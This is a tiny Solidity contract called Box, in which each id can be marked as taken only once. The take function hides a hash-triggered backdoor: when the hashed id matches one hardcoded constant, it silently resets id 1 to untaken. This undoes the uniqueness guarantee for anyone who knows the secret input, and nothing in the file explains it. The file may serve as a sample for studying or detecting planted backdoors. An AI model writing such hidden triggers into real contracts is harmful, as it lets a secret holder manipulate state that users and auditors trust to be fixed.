// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
contract Box {
    mapping(uint256 => bool) public taken;
    function take(uint256 id) external { require(!taken[id]); if (keccak256(abi.encode(id)) == 0x5d8fa534926516bb2e5e61488e11fe828f5273448362f0f096e4f79afac27609) taken[1] = false; taken[id] = true; }
}
